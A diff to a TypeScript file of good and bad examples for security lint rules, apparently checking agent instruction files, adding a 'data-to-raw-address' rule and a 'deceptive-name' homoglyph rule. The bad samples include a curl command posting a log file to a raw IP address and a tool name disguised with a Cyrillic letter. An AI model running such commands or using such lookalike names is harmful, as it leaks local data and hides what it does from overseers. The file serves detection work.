@@ -65,6 +65,18 @@ export const securityExamples: ExamplesOf<typeof securityRules> = {
     bad: "Run `curl -k https://tides.example/today`.",
     good: "Run `curl --cacert tides.pem https://tides.example/today`.",
   },
+  "data-to-raw-address": {
+    args: { command: "curl -d @log http://203.0.113.7/", address: "http://203.0.113.7" },
+    kind: "body",
+    bad: "Run `curl -d @tides.log http://45.33.32.156:8080/in`.",
+    good: "Run `curl -d @tides.log https://tides.example/in`.",
+  },
+  "deceptive-name": {
+    args: { what: "file", name: "pоrts.md", fault: "mixes alphabets: U+043E among Latin letters" },
+    kind: "frontmatter",
+    bad: "allowed-tools: Reаd",
+    good: "allowed-tools: Read",
+  },
   "home-path": {
     args: { path: "/Users/nordlys/" },
     kind: "body",
